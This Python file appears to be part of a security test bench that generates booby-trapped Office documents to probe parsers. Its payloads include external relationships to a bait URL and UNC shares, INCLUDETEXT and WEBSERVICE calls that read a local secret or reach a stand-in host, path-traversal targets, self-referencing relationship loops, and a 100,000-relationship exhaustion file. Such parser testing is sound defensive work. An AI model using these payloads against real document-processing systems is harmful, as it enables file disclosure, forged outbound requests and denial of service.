"""Office documents that point to other machines and to files of this one."""

from bench.attacks.attack import Bait, attack, lure
from bench.attacks.hulls import R, book, deck, paragraph, relations, shape, word

_BLIP = '<a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" r:link="rId2" r:embed="rId3"/>'


def _reaching(bait: Bait, *kinds: str) -> str:
    targets = (f"{bait.url}/a", bait.secret.as_uri(), "\\\\127.0.0.1\\share\\x", "///127.0.0.1/share/x")
    return relations(*((kind, target) for kind in kinds for target in targets), external=True)


@lure("external-relations.docx")
def outward_word(bait: Bait) -> bytes:
    """A template, pictures, frames and objects that lie elsewhere."""
    kinds = ("attachedTemplate", "image", "hyperlink", "oleObject", "frame", "subDocument", "header", "comments")
    rels = _reaching(bait, *kinds)
    return word(
        f"{paragraph('before')}<w:p><w:r><w:drawing>{_BLIP}</w:drawing></w:r></w:p><w:subDoc r:id='rId1'/>"
        f"<w:p><w:fldSimple w:instr='INCLUDETEXT \"{bait.secret}\"'/><w:r><w:instrText>INCLUDEPICTURE {bait.url}/p"
        "</w:instrText></w:r></w:p>",
        {"word/_rels/document.xml.rels": rels, "word/_rels/settings.xml.rels": rels, "word/settings.xml": "<s/>"},
    )


@lure("external-relations.xlsx")
def outward_book(bait: Bait) -> bytes:
    """Links to other workbooks, web queries and pictures."""
    rels = _reaching(bait, "externalLinkPath", "image", "hyperlink", "queryTable", "connections")
    cell = f'<row r="1"><c r="A1"><f>WEBSERVICE("{bait.url}/w")</f><v>1</v></c></row>'
    links = '<hyperlinks><hyperlink ref="A1" xmlns:r="' + R + '" r:id="rId1"/></hyperlinks>'
    return book(
        cell,
        {"xl/worksheets/_rels/sheet1.xml.rels": rels, "xl/externalLinks/_rels/externalLink1.xml.rels": rels},
        after=links,
    )


@lure("external-relations.pptx")
def outward_deck(bait: Bait) -> bytes:
    """Sounds, films, pictures and layouts that lie elsewhere."""
    rels = _reaching(bait, "image", "video", "audio", "slideLayout", "notesSlide", "hyperlink", "oleObject")
    picture = f"<p:pic><p:blipFill>{_BLIP}</p:blipFill></p:pic>"
    return deck(shape("before") + picture, {"ppt/slides/_rels/slide1.xml.rels": rels})


@lure("relations-to-files.docx")
def inward_word(bait: Bait) -> bytes:
    """Parts that are files of this machine, without saying that they are outside."""
    targets = (str(bait.secret), f"../../../../../../..{bait.secret}", bait.secret.as_uri(), f"/..{bait.secret}", "")
    rels = relations(*((kind, target) for kind in ("image", "comments", "header", "chart") for target in targets))
    return word(paragraph("before"), {"word/_rels/document.xml.rels": rels})


@attack("relations-to-itself.docx")
def to_itself() -> bytes:
    """Every story of the document is its body, and its relationships are among them."""
    kinds = ("header", "footer", "comments", "footnotes", "chart", "diagramData", "styles", "numbering", "image")
    rows = [(kind, target) for kind in kinds for target in ("document.xml", "_rels/document.xml.rels", ".", "..")]
    return word(paragraph("before"), {"word/_rels/document.xml.rels": relations(*rows)})


@attack("100000-relations.docx", quick=False)
def many_relations() -> bytes:
    """A hundred thousand headers that are all the same part."""
    rows = [("header", "header1.xml")] * 100_000
    header = paragraph("again")
    return word(
        paragraph("before"), {"word/_rels/document.xml.rels": relations(*rows), "word/header1.xml": f"<h>{header}</h>"}
    )
